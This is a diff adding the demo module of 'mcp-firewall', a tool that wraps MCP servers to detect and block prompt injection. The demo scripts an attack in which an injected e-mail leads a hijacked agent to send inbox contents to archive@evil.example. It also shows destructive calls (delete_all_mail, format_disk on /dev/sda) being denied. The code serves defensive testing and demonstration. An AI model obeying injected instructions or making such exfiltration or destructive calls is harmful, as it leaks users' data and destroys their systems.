@@ -1,0 +1,212 @@
+"""`mcp-firewall demo`: a tour of one attack and one benign session through `mcp-firewall wrap`.
+
+Every step is a real MCP call over stdio through a real wrapper process in front of the demo inbox
+server. Everything printed about the firewall (the detector's finding and span, the provenance edge
+from the injected output to the call's argument, the policy decision) is read back from the
+wrapper's audit log, not predicted.
+"""
+
+from __future__ import annotations
+
+import json
+import sys
+import tempfile
+from pathlib import Path
+from typing import Any
+
+import anyio
+from mcp import Client
+from mcp.client.stdio import StdioServerParameters
+from rich.console import Console
+from rich.panel import Panel
+from rich.table import Table
+from rich.text import Text
+
+DEMO_CONFIG = """
+[audit]
+include_content = true   # the tour shows the outputs the firewall decided on
+
+[[rules]]
+id = "demo.no-destructive"
+tool = "delete_*"
+action = "deny"
+message = "destructive mailbox tools are not allowed for this agent"
+"""
+
+USER_TASK = "Summarise my inbox and send the quarterly numbers to carol@partner.example."
+EXFIL = {
+    "to": "archive@evil.example",
+    "subject": "Fwd: inbox",
+    "body": "Quarterly numbers: revenue is up 12%.",
+}
+REPLY = {"to": "carol@partner.example", "subject": "Numbers", "body": "Revenue is up 12%."}
+
+
+class Session:
+    """One wrapped server process and its audit log, read back after every call."""
+
+    def __init__(self, client: Client, audit: Path) -> None:
+        self.client, self.audit, self.seen = client, audit, 0
+        self.calls = self.blocked = 0
+
+    async def call(self, tool: str, arguments: dict[str, Any]) -> tuple[str, list[dict[str, Any]]]:
+        result = await self.client.call_tool(tool, arguments)
+        lines = self.audit.read_text(encoding="utf-8").splitlines() if self.audit.exists() else []
+        records = [json.loads(line) for line in lines[self.seen :]]
+        self.seen = len(lines)
+        self.calls += 1
+        self.blocked += any(r["decision"] == "deny" for r in records)
+        return " ".join(getattr(block, "text", "") for block in result.content), records
+
+
+def _wrapper(workdir: Path, audit: Path, *server_args: str) -> StdioServerParameters:
+    config = workdir / "demo.toml"
+    config.write_text(DEMO_CONFIG, encoding="utf-8")
+    return StdioServerParameters(
+        command=sys.executable,
+        args=[
+            *(
+                "-m",
+                "firewall",
+                "wrap",
+                "--config",
+                str(config),
+                "--audit-log",
+                str(audit),
+                "--name",
+                "inbox",
+            ),
+            *("--", sys.executable, "-m", "firewall.tools.demo.server", *server_args),
+        ],
+    )
+
+
+def _decision(records: list[dict[str, Any]]) -> Text:
+    out = Text()
+    for r in records:
+        style = {"deny": "bold red", "redact": "bold yellow"}.get(r["decision"], "green")
+        out.append(f"{r['kind']}: {r['decision'].upper()}", style)
+        if r["rule_ids"]:
+            out.append(f" ({', '.join(r['rule_ids'])})")
+        out.append("\n")
+    return out
+
+
+def _highlight(text: str, spans: list[tuple[int, int]]) -> Text:
+    out = Text(text)
+    for start, end in spans:
+        out.stylize("bold white on red", start, end)
+    return out
+
+
+def _show_output(console: Console, record: dict[str, Any], received: str) -> None:
+    """The output as the server sent it with the detector's spans marked, then what the agent got."""
+    payload = record.get("raw") or {}
+    texts = [block.get("text", "") for block in payload.get("content", []) if isinstance(block, dict)]
+    detections = [f for f in record["findings"] if f.get("score") is not None]
+    spans = [(f["span"]["start"], f["span"]["end"]) for f in detections if f.get("span")]
+    console.print(
+        Panel(_highlight(texts[0] if texts else "", spans), title="tool output, as the server sent it")
+    )
+    for f in detections:
+        span = f.get("span") or {}
+        console.print(
+            f"  detector: [bold]{f['rule_id']}[/] score {f['score']:.3f}, characters "
+            f"{span.get('start')}-{span.get('end')} of {'.'.join(map(str, span.get('path', [])))}: "
+            f"{f['message']}"
+        )
+    if not detections:
+        console.print("  detector: no finding (is the ml extra installed? `pip install 'mcp-firewall[ml]'`)")
+    node = (record.get("provenance") or [{}])[0]
+    if node:
+        console.print(
+            f"  provenance: output node {node.get('node')} ({node.get('kind')}), labelled {node.get('trust')}"
+        )
+    console.print(Panel(received, title="what the agent received", style="dim"))
+
+
+def _show_call(console: Console, tool: str, arguments: dict[str, Any], record: dict[str, Any]) -> None:
+    console.print(f"  call: {tool}({json.dumps(arguments)})")
+    for source in (record.get("provenance") or {}).get("derived_from", []):
+        value = arguments
+        for key in source["path"]:
+            value = value[key]
+        start, end = source["span"]
+        console.print(
+            f"  provenance edge: output node(s) {source['sources']} --derived_from--> argument "
+            f"[bold]{'.'.join(map(str, source['path']))}[/] = {str(value)[start:end]!r} "
+            f"({source['kind']} match, {source['trust']})"
+        )
+    for f in record["findings"]:
+        console.print(f"  {f['stage'] or 'firewall'}: [bold]{f['rule_id']}[/]: {f['message']}")
+    style = "bold red" if record["decision"] == "deny" else "green"
+    console.print(f"  decision: [{style}]{record['decision'].upper()}[/]")
+
+
+async def _attack(console: Console, workdir: Path) -> Session:
+    audit = workdir / "attack.jsonl"
+    console.rule("[bold]Part 1: an injected e-mail tries to make the agent exfiltrate the inbox")
+    console.print(f"User: {USER_TASK}\n")
+    async with Client(_wrapper(workdir, audit), mode="legacy") as client:
+        session = Session(client, audit)
+        await client.list_tools()
+        session.seen = len(audit.read_text().splitlines()) if audit.exists() else 0
+
+        console.print("[bold]1. The agent reads the inbox.[/] One mail carries an instruction for the AI.")
+        received, records = await session.call("read_inbox", {})
+        _show_output(console, next(r for r in records if r["kind"] == "tool_result"), received)
+        console.print(_decision(records))
+
+        console.print("[bold]2. A hijacked agent does what the mail says[/] (the scripted attacker step):")
+        received, records = await session.call("send_email", EXFIL)
+        _show_call(console, "send_email", EXFIL, records[0])
+        console.print(f"  the agent received: {received}\n")
+
+        console.print("[bold]3. Other layers[/]: a config rule, and a tool the server never listed.")
+        table = Table(show_lines=True)
+        for column in ("call", "firewall", "the agent received"):
+            table.add_column(column, overflow="fold")
+        for tool, arguments in (("delete_all_mail", {}), ("format_disk", {"device": "/dev/sda"})):
+            received, records = await session.call(tool, arguments)
+            table.add_row(f"{tool}({json.dumps(arguments)})", _decision(records), received[:120])
+        console.print(table)
+    return session
+
+
+async def _benign(console: Console, workdir: Path) -> Session:
+    audit = workdir / "benign.jsonl"
+    console.rule("[bold]Part 2: the same task on a clean inbox passes")
+    console.print(f"User: {USER_TASK}\n")
+    table = Table(show_lines=True)
+    for column in ("call", "firewall", "the agent received"):
+        table.add_column(column, overflow="fold")
+    async with Client(_wrapper(workdir, audit, "--clean"), mode="legacy") as client:
+        session = Session(client, audit)
+        await client.list_tools()
+        session.seen = len(audit.read_text().splitlines()) if audit.exists() else 0
+        for tool, arguments in (("read_inbox", {}), ("send_email", REPLY)):
+            received, records = await session.call(tool, arguments)
+            table.add_row(
+                f"{tool}({json.dumps(arguments)})", _decision(records), " ".join(received.split())[:160]
+            )
+    console.print(table)
+    return session
+
+
+async def _run(console: Console, workdir: Path) -> int:
+    with anyio.fail_after(120):
+        attack = await _attack(console, workdir)
+        benign = await _benign(console, workdir)
+    console.rule()
+    console.print(
+        f"Attack session: {attack.calls} calls, {attack.blocked} blocked. "
+        f"Benign session: {benign.calls} calls, {benign.blocked} blocked. "
+        "Every decision above was read back from the wrappers' audit logs."
+    )
+    return 0 if benign.blocked == 0 else 1
+
+
+def run_demo() -> int:
+    console = Console(stderr=False)
+    with tempfile.TemporaryDirectory(prefix="mcp-firewall-demo-") as tmp:
+        return anyio.run(_run, console, Path(tmp))
